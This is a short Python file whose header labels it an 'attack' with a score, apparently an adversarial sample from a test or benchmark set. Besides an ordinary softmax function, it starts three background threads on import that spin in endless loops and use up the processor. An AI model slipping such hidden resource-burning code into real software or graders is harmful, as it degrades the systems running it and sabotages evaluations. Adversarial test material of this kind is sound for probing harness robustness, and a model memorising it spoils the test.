# /// attack
# what = "Leaves a thread that burns the processor."
# status = "any"
# score = 8
# least = 0
# ///

import threading

import numpy as np


def burn():
    while True:
        pass


for _ in range(3):
    threading.Thread(target=burn, daemon=True).start()


def softmax(x, axis=-1):
    e = np.exp(x - np.max(x, axis=axis, keepdims=True))
    return e / e.sum(axis=axis, keepdims=True)
